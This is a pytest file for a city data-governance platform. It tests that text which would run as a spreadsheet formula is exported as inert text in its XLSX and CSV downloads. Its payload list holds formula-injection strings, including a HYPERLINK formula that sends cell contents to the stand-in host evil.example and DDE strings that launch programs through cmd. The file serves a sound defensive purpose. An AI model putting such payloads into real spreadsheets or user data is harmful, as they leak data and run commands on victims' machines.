"""Spreadsheet formula injection: text that a spreadsheet would run as a formula is exported as text,
in the catalog workbook, the quarantine CSV, the public open-data CSV and XLSX downloads and the
city brain's registry workbooks."""

import csv
import io
import secrets

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from tests.brain.test_registries import _credit_code
from tests.catalog.helpers import publish_entry
from tests.conftest import bearer, unique
from yiwang.core.spreadsheets import append_row, csv_bytes, is_formula_like

# One payload per trigger character named by OWASP's CSV injection guidance.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(content: bytes, sheet: str | None = None) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for row in (book[sheet] if sheet else book.worksheets[0]).iter_rows() for cell in row]


def _assert_text_not_formula(cells: list, text: str) -> None:
    # A stored carriage return reads back as a line feed through the standard library's XML parser and
    # as itself through lxml (openpyxl uses lxml when it is installed).
    readings = {text, text.replace("\r", "\n")}
    found = [c for c in cells if c.value in readings]
    assert found, f"{text!r} missing from the workbook"
    for cell in found:
        assert cell.data_type != "f" and cell.data_type == "s", (text, cell.data_type)


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append_row(sheet, [*PAYLOADS, -3.5, "-3.5", "+86", "普通文本", None, "控制\x01字符"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = _xlsx_cells(buffer.getvalue())
    for payload in PAYLOADS:
        _assert_text_not_formula(cells, payload)
        assert next(c for c in cells if c.value in (payload, payload.replace("\r", "\n"))).quotePrefix
    by_value = {c.value: c for c in cells if c.value is not None}
    assert by_value[-3.5].data_type == "n"
    assert by_value["-3.5"].data_type == "s" and not by_value["-3.5"].quotePrefix
    assert "控制字符" in by_value


def test_csv_cells_that_would_run_start_with_a_quote():
    frame = pl.DataFrame({"text": [*PAYLOADS, "-3.5", "+86", "普通"], "number": [-3.5] * 9})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:7]] == [f"'{p}" for p in PAYLOADS]
    assert [r[0] for r in rows[7:]] == ["-3.5", "+86", "普通"]
    assert {r[1] for r in rows[1:]} == {"-3.5"}
    assert not is_formula_like("-3.5") and not is_formula_like("1e-3") and is_formula_like("-1+2")


def test_catalog_export_writes_a_hostile_summary_as_text(client):
    payload = PAYLOADS[0]
    items = [
        {"name": "rid", "label": "编号", "required": True, "is_key": True},
        {"name": "remark", "label": "=cmd|' /C calc'!A0", "validator_arg": "@SUM(1)"},
    ]
    entry = publish_entry(client, items=items, summary=payload + " 的目录摘要，足够长的说明文字。")
    exported = client.get("/api/catalog/export.xlsx", headers=bearer(client, "hbj_steward"))
    assert exported.status_code == 200
    entries = _xlsx_cells(exported.content, "目录")
    _assert_text_not_formula(entries, entry["summary"])
    item_cells = _xlsx_cells(exported.content, "信息项")
    _assert_text_not_formula(item_cells, "=cmd|' /C calc'!A0")
    _assert_text_not_formula(item_cells, "@SUM(1)")


OPEN_ITEMS = [
    {"name": "rid", "label": "编号", "required": True, "is_key": True},
    {"name": "remark", "label": "备注"},
    {"name": "change", "label": "变化量", "data_type": "number"},
]


def _open_dataset_with(client, remarks: list[str]) -> str:
    entry = publish_entry(client, items=OPEN_ITEMS, open_type="无条件开放", licence="CC-BY-4.0")
    code = entry["code"]
    steward = bearer(client, "hbj_steward")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["rid", "remark", "change"])
    writer.writerows([f"R{n}", remark, "-3.5"] for n, remark in enumerate(remarks))
    uploaded = client.post(
        f"/api/governance/resources/{code}/upload",
        files={"file": ("d.csv", buffer.getvalue().encode())},
        headers=steward,
    )
    assert uploaded.status_code == 201, uploaded.text
    assert uploaded.json()["rows_out"] == len(remarks), uploaded.text
    assert client.post(f"/api/opendata/datasets/{code}/publish", headers=steward).status_code == 201
    return code


def test_open_data_downloads_do_not_carry_live_formulas(client, anon):
    # Ingest trims leading whitespace, so the tab and carriage-return payloads cannot arrive this way.
    remarks = [*PAYLOADS[:4], "-3.5"]
    code = _open_dataset_with(client, remarks)

    book = anon.get(f"/opendata/datasets/{code}/download.xlsx")
    assert book.status_code == 200
    cells = _xlsx_cells(book.content)
    for remark in remarks[:-1]:
        _assert_text_not_formula(cells, remark)
    numbers = [c for c in cells if c.value == -3.5]
    assert len(numbers) == len(remarks) and all(c.data_type == "n" for c in numbers)

    response = anon.get(f"/opendata/datasets/{code}/download.csv")
    assert response.status_code == 200
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    by_id = {row["rid"]: row for row in table}
    for n, remark in enumerate(remarks[:-1]):
        assert by_id[f"R{n}"]["remark"] == f"'{remark}"
    assert by_id[f"R{len(remarks) - 1}"]["remark"] == "-3.5"
    assert {row["change"] for row in table} == {"-3.5"}


def test_quarantine_csv_does_not_carry_live_formulas(client):
    items = [
        {"name": "rid", "label": "编号", "required": True, "is_key": True},
        {"name": "town", "label": "=所在镇", "validator": "enum", "validator_arg": "虞山街道|梅李镇"},
    ]
    code = publish_entry(client, items=items)["code"]
    content = f"rid,town\nQ1,虞山街道\nQ2,{PAYLOADS[1]}\nQ3,{PAYLOADS[3]}\n".encode()
    uploaded = client.post(
        f"/api/governance/resources/{code}/upload",
        files={"file": (f"{unique()}.csv", content)},
        headers=bearer(client, "hbj_steward"),
    )
    assert uploaded.status_code == 201 and uploaded.json()["rows_quarantined"] == 2, uploaded.text
    response = client.get(
        f"/api/governance/resources/{code}/versions/1/quarantine.csv", headers=bearer(client, "hbj_steward")
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert "'=所在镇" in rows[0]
    towns = {row[rows[0].index("'=所在镇")] for row in rows[1:]}
    assert towns == {f"'{PAYLOADS[1]}", f"'{PAYLOADS[3]}"}


def test_registry_workbook_keeps_a_hostile_name_as_text_and_imports_it_back(client, admin_headers):
    code = _credit_code(f"91320581MA{secrets.randbelow(10**7):07d}")
    name = PAYLOADS[0]
    saved = client.put(
        f"/api/brain/registries/enterprises/{code}",
        json={"name": name, "status": "settled", "settled_on": "2025-03-01", "field": "数据治理"},
        headers=admin_headers,
    )
    assert saved.status_code == 200, saved.text
    exported = client.get("/brain/registries/enterprises/export", headers=admin_headers)
    assert exported.status_code == 200
    _assert_text_not_formula(_xlsx_cells(exported.content), name)
    again = client.post(
        "/api/brain/registries/enterprises/import",
        files={"file": ("e.xlsx", exported.content)},
        headers=admin_headers,
    ).json()
    assert again["rows_rejected"] == 0
    rows = {r["code"]: r for r in client.get("/api/brain/registries/enterprises", headers=admin_headers).json()}
    assert rows[code]["name"] == name
